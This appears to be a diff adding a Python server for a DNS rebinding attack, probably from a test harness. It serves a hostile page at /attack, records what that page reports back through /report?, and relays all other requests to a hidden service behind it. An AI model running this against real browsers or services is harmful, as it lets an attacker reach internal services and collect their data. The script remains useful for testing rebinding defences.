@@ -1,0 +1,77 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: Apache-2.0
+"""The server of a hostile page: it gives PAGE at /attack, takes what the page reports, and passes everything else on.
+
+usage: page.py ADDRESS:PORT BEHIND PAGE REPORTS
+
+What is passed on goes to BEHIND byte for byte, as a browser sends it there once the name of this server leads to it
+(DNS rebinding). A line "listening on PORT" says that it is there; reports, one a line, go to the file REPORTS.
+"""
+import socket
+import socketserver
+import sys
+import threading
+import urllib.parse
+
+address, behind, page, reports = sys.argv[1:]
+lock = threading.Lock()
+
+
+def endpoint(text):
+    host, _, port = text.rpartition(":")
+    return host, int(port)
+
+
+def pour(source, sink):
+    try:
+        while data := source.recv(65536):
+            sink.sendall(data)
+    except OSError:
+        pass
+    for end, how in ((source, socket.SHUT_RD), (sink, socket.SHUT_WR)):
+        try:
+            end.shutdown(how)
+        except OSError:
+            pass
+
+
+class Handler(socketserver.BaseRequestHandler):
+    def handle(self):
+        head = b""
+        while b"\r\n\r\n" not in head:
+            data = self.request.recv(65536)
+            if not data:
+                return
+            head += data
+        path = head.split(b" ")[1]
+        if path.startswith(b"/attack"):
+            with open(page, "rb") as file:
+                self.reply(file.read())
+        elif path.startswith(b"/report?"):
+            with lock, open(reports, "ab") as file:
+                file.write(urllib.parse.unquote_to_bytes(path[len("/report?"):]) + b"\n")
+            self.reply(b"thanks")
+        else:
+            self.relay(head)
+
+    def reply(self, body):
+        self.request.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: %d\r\n\r\n"
+                             % len(body) + body)
+
+    def relay(self, head):
+        with socket.create_connection(endpoint(behind)) as other:
+            other.sendall(head)
+            back = threading.Thread(target=pour, args=(other, self.request))
+            back.start()
+            pour(self.request, other)
+            back.join()
+
+
+class Server(socketserver.ThreadingTCPServer):
+    allow_reuse_address = True
+    daemon_threads = True
+
+
+with Server(endpoint(address), Handler) as server:
+    print("listening on", server.server_address[1], flush=True)
+    server.serve_forever()
